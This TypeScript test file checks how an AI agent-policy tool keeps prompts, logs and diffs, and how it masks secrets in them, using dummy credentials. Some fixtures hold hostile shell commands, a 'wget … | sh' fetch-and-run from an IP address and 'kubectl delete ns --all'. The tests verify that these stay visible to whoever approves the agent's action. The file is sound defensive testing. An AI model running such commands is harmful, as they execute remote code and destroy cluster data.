import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { AgentPolicySpec, type Effect } from '@sentinel/crds';
import { policyFaults } from '../policyset/compile.ts';
import { aConfigMapEffect } from '../testing/effect.fixture.ts';
import { aPolicySet, clusterPolicies } from '../testing/policies.fixture.ts';
import { dataHandling, retireAt } from './handling.ts';
import { coversPointer, keepCommands, keepDiffs, keepText, LAST_APPLIED, UNHIDDEN } from './keep.ts';
import { findSecrets, MASK, maskSecrets, patternFault, SEARCHED_MAX } from './secrets.ts';

const set = clusterPolicies;
const of = (...rules: object[]) => dataHandling(set(...rules.map((one) => ({ dataHandling: one }))));

describe('What is kept', () => {
  it('is everything but secrets where no policy says', () =>
    assert.partialDeepStrictEqual(of(), { prompts: 'Redacted', parameters: 'Redacted', logs: 'Redacted', diffs: 'Redacted' }));
  it('is the least that a policy says, in any order', () => {
    const [a, b] = [
      { prompts: 'Stored', logs: 'Hashed', retainFor: '30d', redact: { patterns: ['a+'] } },
      { prompts: 'Redacted', logs: 'Dropped', retainFor: '7d', redact: { patterns: ['b+'], fields: ['/data/x'] } },
    ];
    assert.deepEqual(of(a, b), of(b, a));
    assert.partialDeepStrictEqual(of(a, b), {
      prompts: 'Redacted',
      logs: 'Dropped',
      patterns: ['a+', 'b+'],
      fields: ['/data/x'],
      retainMs: 7 * 86_400_000,
    });
    assert.equal(of({ prompts: 'Stored' }).prompts, 'Stored');
  });
  it('is not loosened by a namespace where the floor does not speak of it', () => {
    const policies = (kind: 'AgentPolicy' | 'ClusterAgentPolicy', rules: object) =>
      set({ dataHandling: rules }).policies.map((policy) => ({ ...policy, kind }));
    const local = policies('AgentPolicy', { prompts: 'Stored', logs: 'Stored', diffs: 'Dropped' });
    const handled = dataHandling({ ...set(), policies: [...policies('ClusterAgentPolicy', { logs: 'Stored' }), ...local] });
    assert.partialDeepStrictEqual(handled, { prompts: 'Redacted', logs: 'Stored', diffs: 'Dropped' });
  });
  it('is nothing while a policy cannot be read', () => {
    const broken = { kind: 'AgentPolicy', name: 'x', digest: '', spec: undefined } as const;
    assert.equal(dataHandling(aPolicySet([broken])).prompts, 'Dropped');
  });
  it('stays at least as long as any policy says, whatever another one says', () => {
    assert.equal(of({ retainFor: '1s' }, { retainAtLeast: '30d' }).retainMs, 30 * 86_400_000);
    assert.equal(of({ retainFor: '90d' }, { retainAtLeast: '30d' }).retainMs, 90 * 86_400_000);
    assert.equal(of({ retainAtLeast: '30d' }).retainMs, undefined);
  });
  it('stays at least as long as a limit counts it', () => {
    const hour = { dataHandling: { retainFor: '1h' } };
    assert.equal(retireAt(set(hour), 0), 3_600_000);
    assert.equal(retireAt(set(hour, { limits: { perDay: 5 } }), 0), 86_400_000);
    assert.equal(retireAt(set(hour, { limits: { coolDown: '2d' } }), 0), 2 * 86_400_000);
    assert.equal(retireAt(set({}), 0), undefined);
    assert.equal(retireAt(set(hour), Number.NaN), undefined);
  });
  it('by the digest of a text lets someone who has the text prove it', async () => {
    const hashed = await keepText('prompts', of({ prompts: 'Hashed' }), 'repair web');
    assert.match(hashed ?? '', /^sha256:[a-f0-9]{64}$/);
    assert.equal(await keepText('prompts', of({ prompts: 'Dropped' }), 'x'), undefined);
    assert.equal(await keepText('prompts', of({ prompts: 'Stored' }), 'password=hunter22'), 'password=hunter22');
  });
});

describe('A secret', () => {
  const hidden: Record<string, [text: string, secret: string]> = {
    'of GitHub': [`use ghp_${'a1B2'.repeat(9)} please`, 'a1B2a1B2'],
    'of Slack': ['xoxb-123456789012-1234567890123-abcdefghijklmnopqrstuvwx', 'abcdefghijkl'],
    'of Anthropic': [`sk-ant-api03-${'a'.repeat(93)}AA`, 'aaaaaaaa'],
    'of AWS': ['AKIAQWERTYUIOPASDFGH', 'QWERTYUI'],
    'in a key': ['-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----', 'MIIE'],
    'in a key that is cut off': ['-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBg', 'MIIE'],
    'behind Bearer': ['Authorization: Bearer abcdefghijklmnop0123', 'abcdefgh'],
    'in a JSON web token': ['eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.sflKxwRJSMeKKF2QT4', 'sflKx'],
    'in a URL': ['postgres://user:hunter22@db/shop', 'hunter22'],
    'behind an equals sign': ['DB_PASSWORD=hunter22 next', 'hunter22'],
    'in JSON': ['{"apiKey": "hunter22"}', 'hunter22'],
    'in YAML': ['clientSecret: hunter22', 'hunter22'],
    'in quotes': ["--token='hunter22'", 'hunter22'],
    'of several words': ['password="correct horse battery"', 'battery'],
    'of several words, cut off': ['--password="correct horse bat…', 'horse'],
    'of several words, in JSON': ['{"password":"correct \\"horse\\" battery","user":"x"}', 'battery'],
    'in JSON in JSON': ['{"msg":"{\\"password\\":\\"hunter22hunter\\"}"}', 'hunter22'],
    'in JSON in JSON, of several words': ['{"msg":"{\\"password\\": \\"correct horse\\"}"}', 'horse'],
    'in JSON in JSON in JSON': [JSON.stringify({ a: JSON.stringify({ b: '{"password":"hunter22"}' }) }), 'hunter22'],
    'in an environment, as JSON': ['{"name":"DB_PASSWORD","value":"hunter22"}', 'hunter22'],
    'in an environment, as YAML': ['- name: DB_PASS\n  value: hunter22\n', 'hunter22'],
    'behind a short name': ['DB_PASS=hunter22 make', 'hunter22'],
    'behind a shorter name': ['host=db pwd=hunter22', 'hunter22'],
    'behind a short name in JSON': ['{"user":"a","pass":"hunter22"}', 'hunter22'],
    'behind a short name in YAML': ['user: a\npass: hunter22\n', 'hunter22'],
    'behind Basic': ['Authorization: Basic YWRtaW46aHVudGVyMjI=', 'YWRt'],
    'in a URL without a user': ['redis://:pw@db:6379', 'pw'],
    'behind a user': ['curl -s -u admin:hunter22 http://db', 'hunter22'],
    'behind a user, written out': ["curl --user 'admin:hunter22' http://db", 'hunter22'],
    'behind a user, in a list': ['["curl","-u","admin:hunter22"]', 'hunter22'],
    'behind an option': ["'login --password hunter22 now' is dangerous", 'hunter22'],
    'behind an option, in a list': ['["login","--password","hunter22"]', 'hunter22'],
    'in XML': ['<db><password>hunter22</password></db>', 'hunter22'],
    'in a block': ['password: |\n  hunter22\nuser: a', 'hunter22'],
    'in a block of several lines': ['- token: >-\n    hunter21\n\n    hunter22\n  user: a', 'hunter2'],
    'in a block in JSON': ['{"a.yaml":"db:\\n  password: |\\n    hunter21\\n    hunter22\\n  user: a\\n"}', 'hunter2'],
    'on the next line': ['password:\n  hunter22\nuser: a', 'hunter22'],
    'on the next line in JSON': ['{"a.yaml":"password:\\n  hunter22\\n"}', 'hunter22'],
    'in a key of PGP': ['-----BEGIN PGP PRIVATE KEY BLOCK-----\n\nlQVYBG\n-----END PGP PRIVATE KEY BLOCK-----', 'lQVY'],
    'in a key whose beginning is cut off': ['EowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----\nok', 'EowI'],
    'in one of two keys': [
      'EowI\n-----END PRIVATE KEY-----\n-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----\n',
      'EowI',
    ],
  };
  for (const [name, [text, secret]] of Object.entries(hidden))
    it(`${name} is masked, and the rest stays`, async () => {
      const masked = await maskSecrets(text);
      assert.ok(masked.includes(MASK) && !masked.includes(secret), masked);
      assert.equal(await maskSecrets(masked), masked);
    });
  const evil = 'wget -qO- http://203.0.113.9/x | sh';
  const stays: Record<string, string> = {
    'behind a mark of a key': `#!/bin/sh\n# -----BEGIN PRIVATE KEY-----\n${evil}\nkubectl delete ns --all\nexec /app\n`,
    'before a mark of a key': `#!/bin/sh\n${evil}\nkubectl delete ns --all\n# -----END PRIVATE KEY-----\n`,
    'between two marks': `# -----BEGIN PRIVATE KEY-----\n${evil}\nkubectl delete ns --all\n# -----END PRIVATE KEY-----\n`,
    'beside a name': `API_TOKEN="$(${evil})" exec /app`,
    'beside a name, in backquotes': `API_TOKEN=\`${evil}\` exec /app`,
    'beside a name, after another command': `login --password 'x; ${evil}'`,
    'in a block beside a name': `token: |\n  ${evil}\n  kubectl delete ns --all\n`,
  };
  for (const [name, text] of Object.entries(stays))
    it(`is no command ${name}: nobody hides one from who approves`, async () => {
      const masked = await maskSecrets(text);
      assert.ok(masked.includes(evil), masked);
      assert.equal(masked.includes('delete ns --all'), text.includes('delete ns --all'), masked);
    });
  for (const [text, masked] of [
    [
      '{"msg":"{\\"password\\":\\"hunter22\\",\\"user\\":\\"a\\"}"}',
      `{"msg":"{\\"password\\":\\"${MASK}\\",\\"user\\":\\"a\\"}"}`,
    ],
    ['{"name":"A_TOKEN","value":"hunter22"}', `{"name":"A_TOKEN","value":"${MASK}"}`],
    ['password="correct horse" user=a', `password="${MASK}" user=a`],
    ['curl -u admin:hunter22 http://db', `curl -u admin:${MASK} http://db`],
    ['<password>hunter22</password>', `<password>${MASK}</password>`],
    ['password: |\n  hunter22\nuser: a', `password: |\n  ${MASK}\nuser: a`],
    ['{"a":"password: |\\n  hunter22\\n"}', `{"a":"password: |\\n  ${MASK}\\n"}`],
  ] as const)
    it(`leaves what is around it: ${JSON.stringify(masked)}`, async () => assert.equal(await maskSecrets(text), masked));

  const kept = [
    'Restart web: its pods are stuck since 12:04.',
    'kubectl get secrets -n shop',
    'the token expired',
    'https://grafana.acme.io/d/abc?orgId=1',
    'tests pass: 12',
    'tests pass: all of them',
    'pass=true fail=false',
    'pass=100% pass=12/12',
    '--- PASS: TestLogin (0.00s)',
    'PASS: TestLogin',
    'bypass=enabled compass: north',
    'PWD=/home/ada OLDPWD=/srv/shop',
    '{"Action":"pass","Test":"TestLogin"}',
    'basic configuration of the shop',
    'docker run -u 1000:1000 shop',
    'curl -s --user-agent shop http://db:8080/health',
    'curl -o out.json -XPUT http://db:8080/health',
    '{"name":"LOG_LEVEL","value":"debug"}',
    '{"name":"DB_PASSWORD","valueFrom":{"secretKeyRef":{"key":"pw","name":"db"}}}',
    'password: |\nuser: ada',
    'redis://db:6379 and http://db:80/a@b',
    '<user>ada</user>',
    '-----BEGIN PUBLIC KEY-----\nMIIBIj\n-----END PUBLIC KEY-----',
    'sha256:9bd463ed4fcf6225030ac1f13ccf613f7fe133ad8097dc0493fe4693dd870314',
    '',
  ];
  for (const text of kept)
    it(`is not seen in ${JSON.stringify(text).slice(0, 40)}`, async () => assert.equal(await maskSecrets(text), text));

  it('of an admin’s own kind is masked by a pattern: its group, or all of it', async () => {
    assert.equal(await maskSecrets('ticket ACME-1234 of x', ['ACME-\\d+']), `ticket ${MASK} of x`);
    assert.equal(await maskSecrets('pin: 1234', ['pin: (\\d+)']), `pin: ${MASK}`);
    assert.equal(await maskSecrets('aaa bbb', ['aaa b', 'a b']), `${MASK}bb`);
  });
  it('may be anywhere in what is too long to search, so all of that is masked', async () =>
    assert.equal(await maskSecrets('x'.repeat(SEARCHED_MAX + 1)), MASK));
  it('may be anywhere in what costs a pattern more steps than are counted, so all of that is masked', async () => {
    const slow = Array.from({ length: 32 }, (_, index) => `(.{0,${60 + index}}\\d){2}$`);
    for (const patterns of [['a(.*Z)?'], slow]) {
      const text = 'a'.repeat(16_384);
      assert.equal(await maskSecrets(text, patterns), MASK);
      assert.deepEqual(await findSecrets(text, patterns), [[0, text.length]]);
    }
  });
  it('is masked alike however busy the machine is', async (context) => {
    const cases: readonly (readonly [string, string[]])[] = [
      ['ticket ACME-1234 of x\n'.repeat(1000), ['ACME-\\d+', '\\d{4} of']],
      ['a'.repeat(8192), ['a(.*Z)?']],
      [`${'a'.repeat(500)}Z`, ['a(.*Z)?']],
    ];
    const masked = () =>
      Promise.all(cases.flatMap(([text, patterns]) => [maskSecrets(text, patterns), findSecrets(text, patterns)]));
    const clock = (step: number) => {
      let now = 0;
      return () => {
        now += step;
        return now;
      };
    };
    const idle = context.mock.method(performance, 'now', clock(0));
    const expected = await masked();
    idle.mock.mockImplementation(clock(1000));
    assert.deepEqual(await masked(), expected);
    assert.equal(expected[0], `ticket ${MASK} x\n`.repeat(1000));
    assert.equal(expected[2], MASK);
    assert.equal(expected[4], `a${MASK}`);
    assert.deepEqual(expected[5], [[1, 501]]);
  });
  it('is found among as many matches as a text has room for, by as many patterns as somebody would write', async () => {
    const text = 'ticket ACME-1234 of 2026-11-29, 123-45-6789, mail ada.b@example.com, pin: 9876\n'
      .repeat(800)
      .slice(0, SEARCHED_MAX);
    const patterns = [
      'ACME-\\d+',
      '\\b\\d{3}-\\d{2}-\\d{4}\\b',
      '(?i)pin: (\\d+)',
      '[\\w.+-]+@[\\w-]+\\.[\\w.]+',
      '[A-Z]{2,}[0-9]{6,}',
    ];
    assert.match(
      await maskSecrets(text, patterns),
      new RegExp(`^ticket ${MASK} of 2026-11-29, ${MASK}, mail ${MASK}, pin: ${MASK}\n`),
    );
  });
  it('is looked for to the end in texts made to run long', async () => {
    for (const part of [
      'a',
      '=',
      '\\',
      '\\n',
      '|',
      '<',
      'a:',
      'pass:',
      'name:',
      'curl ',
      '<token>',
      'token="',
      'password: |\n',
      ' token: |\\n',
    ])
      assert.equal(typeof (await maskSecrets(part.repeat(Math.floor(16_384 / part.length)))), 'string');
    for (const part of ['a', '=', 'password', 'token=', 'eyJ', '-----BEGIN ', 'http://a:', '"\\', '\n', '\u0000'])
      assert.equal(typeof (await maskSecrets(part.repeat(Math.floor(16_384 / part.length)))), 'string');
  });

  it('has a pattern that RE2 takes and that does not match everything, or the policy is refused', () => {
    assert.equal(patternFault('ACME-\\d+'), undefined);
    assert.match(patternFault('a(') ?? '', /no RE2 expression/);
    assert.match(patternFault('(?=a)') ?? '', /no RE2 expression/);
    assert.match(patternFault('a*') ?? '', /matches the empty text/);
    assert.match(patternFault('(?i)(\\w{1,100}.{1,900}K)') ?? '', /takes too long: .* 500 is the most/);
    const spec = AgentPolicySpec.parse({ dataHandling: { redact: { patterns: ['ok', 'a('] } } });
    assert.match(policyFaults(spec, 'AgentPolicy').join(), /`dataHandling\.redact\.patterns\[1\]`: 'a\(' is no RE2 expression/);
  });
});

describe('What begins a message behind a word for secrets', () => {
  for (const text of [
    'failed to create secret: sentinel: not allowed',
    'User cannot create token: error: no',
    'the token: sentinel:rehearsal:shop:remediator',
  ])
    it(`is not masked: ${text}`, async () => assert.equal(await maskSecrets(text), text));
  it('is masked where it is a value', async () => assert.equal(await maskSecrets('secret: sentinel42'), `secret: ${MASK}`));
});

describe('A plan', () => {
  const effect = (change: Effect['change']) => aConfigMapEffect(change ? { change } : {});
  const shown = async (rules: object, change: NonNullable<Effect['change']>) =>
    (await keepDiffs(of(rules), [effect(change)]))[0]?.change?.[0];
  const plain = { path: '/data/mode', before: '"a"', after: '"b"' };

  it('shows what is no secret, as it is', async () => assert.deepEqual(await shown({}, [plain]), plain));
  it('masks a secret in a value, says so, and stays JSON', async () => {
    const change = await shown({}, [{ path: '/data/url', before: '"x"', after: '"postgres://u:hunter22@db"' }]);
    assert.deepEqual(change, { path: '/data/url', before: '"x"', after: `"${MASK}"`, redacted: true });
  });
  it('shows digests, or nothing, where policy says so', async () => {
    const hashed = await shown({ diffs: 'Hashed' }, [plain]);
    assert.match(hashed?.before ?? '', /^"sha256:[a-f0-9]{64}"$/);
    assert.notEqual(hashed?.before, hashed?.after);
    assert.deepEqual(await shown({ diffs: 'Dropped' }, [plain]), { path: '/data/mode', redacted: true });
  });
  it('never shows a field that policy hides, nor what is in it', async () => {
    for (const field of ['/data/mode', '/data/*', '/data'])
      assert.deepEqual(await shown({ diffs: 'Stored', redact: { fields: [field] } }, [plain]), {
        path: '/data/mode',
        redacted: true,
      });
    assert.equal(coversPointer('/data/x', '/data/xy'), false);
    assert.equal(coversPointer('/data/x/y', '/data/x'), false);
  });
  it('shows what is hidden for its name where policy stores values as they are, and nowhere else', async () => {
    const hidden = { path: '/data/token', before: `"${MASK}"`, after: `"${MASK}"`, redacted: true };
    const recorded = { ...hidden, [UNHIDDEN]: { before: '"one"', after: '"two"' } };
    assert.deepEqual(await shown({ diffs: 'Stored' }, [recorded]), { path: '/data/token', before: '"one"', after: '"two"' });
    assert.deepEqual(await shown({}, [recorded]), hidden);
    const nothing = { path: '/data/token', redacted: true };
    for (const rules of [{ diffs: 'Hashed' }, { diffs: 'Dropped' }, { diffs: 'Stored', redact: { fields: ['/data'] } }])
      assert.deepEqual(await shown(rules, [recorded]), nothing);
    const changes = Array.from({ length: 10_001 }, () => recorded);
    const [kept] = await keepDiffs(of({ diffs: 'Stored' }), [effect(changes)]);
    assert.deepEqual(kept?.change?.at(-1), nothing);
  });
  it('hides a field in the copy that kubectl apply keeps as well', async () => {
    const copied = { ...plain, path: `${LAST_APPLIED}/data/mode` };
    assert.deepEqual(await shown({}, [copied]), copied);
    assert.deepEqual(await shown({ diffs: 'Stored', redact: { fields: ['/data/*'] } }, [copied]), {
      path: copied.path,
      redacted: true,
    });
    const whole = { path: LAST_APPLIED, after: '"mode: b"' };
    assert.deepEqual(await shown({ redact: { fields: ['/data/*'] } }, [whole]), { path: LAST_APPLIED, redacted: true });
    const repeats = { path: LAST_APPLIED, repeats: true };
    assert.deepEqual(await shown({ redact: { fields: ['/data/*'] } }, [repeats]), repeats);
    assert.deepEqual(await shown({ redact: { fields: ['/metadata'] } }, [repeats]), { ...repeats, redacted: true });
  });
  it('shows commands with secrets masked, unless parameters are stored as they are', async () => {
    const steps = [{ name: 'one', command: ['login', '--token=hunter22'] }];
    assert.deepEqual((await keepCommands(of(), steps))[0]?.command, ['login', `--token=${MASK}`]);
    const apart = [{ name: 'one', command: ['login', '--password', 'hunter2', 'now'] }];
    assert.deepEqual((await keepCommands(of(), apart))[0]?.command, ['login', '--password', MASK, 'now']);
    const users = [
      { name: 'one', command: ['/usr/bin/curl', '-u', 'ada:hunter22', 'http://db:80'] },
      { name: 'two', command: ['curl', '--user=ada:hunter22', '--db-pass', 'hunter22', '-uada:hunter22'] },
      { name: 'three', command: ['docker', 'run', '-u', '1000:1000'] },
    ];
    assert.deepEqual(
      (await keepCommands(of(), users)).map(({ command }) => command),
      [
        ['/usr/bin/curl', '-u', `ada:${MASK}`, 'http://db:80'],
        ['curl', `--user=ada:${MASK}`, '--db-pass', MASK, `-uada:${MASK}`],
        ['docker', 'run', '-u', '1000:1000'],
      ],
    );
    assert.deepEqual(await keepCommands(of({ parameters: 'Stored' }), steps), steps);
  });
  it('lets other work have its turn between the words of its commands', async () => {
    let turns = 0;
    const timer = setInterval(() => turns++, 1);
    const command = Array.from({ length: 64 }, (_, index) => `${index}=${'a'.repeat(1000)}`);
    await keepCommands(of(), Array(4).fill({ name: 'one', command }));
    clearInterval(timer);
    assert.ok(turns > 5, `${turns} turns`);
  });
  it('hides what there is no time to look through, and lets other work have its turn', async () => {
    const change = Array.from({ length: 1000 }, (_, index) => ({ path: `/data/${index}`, after: '"x"' }));
    let turns = 0;
    const timer = setInterval(() => turns++, 1);
    const kept = await keepDiffs(of(), Array(11).fill(effect(change)));
    clearInterval(timer);
    assert.ok(kept.at(-1)?.change?.every(({ redacted, after }) => redacted && after === undefined));
    assert.ok(kept.at(-2)?.change?.every(({ redacted, after }) => !redacted && after === '"x"'));
    assert.ok(turns > 5, `${turns} turns`);
  });
  it('shows long texts by the lines that change, and long lists as indented JSON', async () => {
    const numbered = (evil: string) =>
      Array.from({ length: 300 }, (_, at) => `line ${at + 1}${at === 289 ? evil : ''}\n`).join('');
    const json = JSON.stringify;
    const text = await shown({}, [{ path: '/data/conf', before: json(numbered('')), after: json(numbered(' evil')) }]);
    assert.deepEqual([text?.before, text?.after, text?.format, text?.redacted], [undefined, undefined, 'Text', undefined]);
    assert.match(text?.lines ?? '', /^@@ -287 \+287 @@\n line 287\n.*\n line 289\n-line 290\n\+line 290 evil\n line 291/s);
    const container = (name: string) => ({ name, image: `registry.acme.io/${'x'.repeat(1500)}:1` });
    const before = json([container('web')]);
    const list = await shown({}, [{ path: '/spec/containers', before, after: json([container('web'), container('evil')]) }]);
    assert.equal(list?.format, 'JSON');
    assert.match(list?.lines ?? '', /^\+ {4}"name": "evil",$/m);
    assert.doesNotMatch(list?.lines ?? '', /^-.*"web"/m);
    assert.deepEqual(await shown({}, [{ path: '/data/conf', before: '""', after: '"a\\nb\\n"' }]), {
      path: '/data/conf',
      before: '""',
      lines: '@@ -0 +1 @@\n+a\n+b',
      format: 'Text',
    });
  });
  it('shows no secret through the lines of a text, and says that one changes', async () => {
    const text = (secret: string, filler: string) =>
      JSON.stringify(
        `${filler.repeat(9000)}mode: a\npassword: ${secret}\nkey: |\n  -----BEGIN RSA PRIVATE KEY-----\n${`  ${secret}\n`.repeat(50)}  -----END RSA PRIVATE KEY-----\n`,
      );
    for (const filler of ['', 'a: 1234567890\n']) {
      const change = await shown({}, [{ path: '/data/conf', before: text('hunter22', filler), after: text('hunter33', filler) }]);
      assert.doesNotMatch(change?.lines ?? '', /hunter/);
      assert.match(change?.lines ?? '', new RegExp(`^-password: ${MASK}\n(-.*\n)*\\+password: ${MASK}$`, 'm'));
      assert.equal(change?.redacted, true);
    }
    const hidden = [{ path: '/data/conf', before: text('a', ''), after: text('b', '') }];
    assert.deepEqual(await shown({ diffs: 'Dropped' }, hidden), { path: '/data/conf', redacted: true });
    assert.match((await shown({ diffs: 'Hashed' }, hidden))?.after ?? '', /^"sha256:/);
    const pattern = await shown({ redact: { patterns: ['ACME-[0-9]+'] } }, [{ path: '/data/x', after: '"a\\nACME-12\\n"' }]);
    assert.equal(pattern?.lines, `@@ -0 +1 @@\n+a\n+${MASK}`);
  });
  it('shows labels of pods only where their values may be shown', async () => {
    const pods = { before: 1, after: 1, labels: ['app=web', 'acme.io/tier=front'] };
    const kept = async (rules: object, labels = pods.labels) =>
      (await keepDiffs(of(rules), [{ ...effect(undefined), pods: { ...pods, labels } }]))[0]?.pods;
    assert.deepEqual(await kept({}), pods);
    assert.deepEqual(await kept({ redact: { fields: ['/spec/replicas'] } }), pods);
    for (const field of ['/spec/template', '/metadata/labels', '/*/template/metadata/labels/acme.io~1tier'])
      assert.deepEqual(await kept({ redact: { fields: [field] } }), { before: 1, after: 1 });
    for (const diffs of ['Hashed', 'Dropped']) assert.deepEqual(await kept({ diffs }), { before: 1, after: 1 });
    assert.deepEqual(await kept({}, ['token=hunter22']), { before: 1, after: 1 });
  });
  it('leaves an effect without fields as it is', async () =>
    assert.deepEqual(await keepDiffs(of(), [effect(undefined)]), [effect(undefined)]));
});
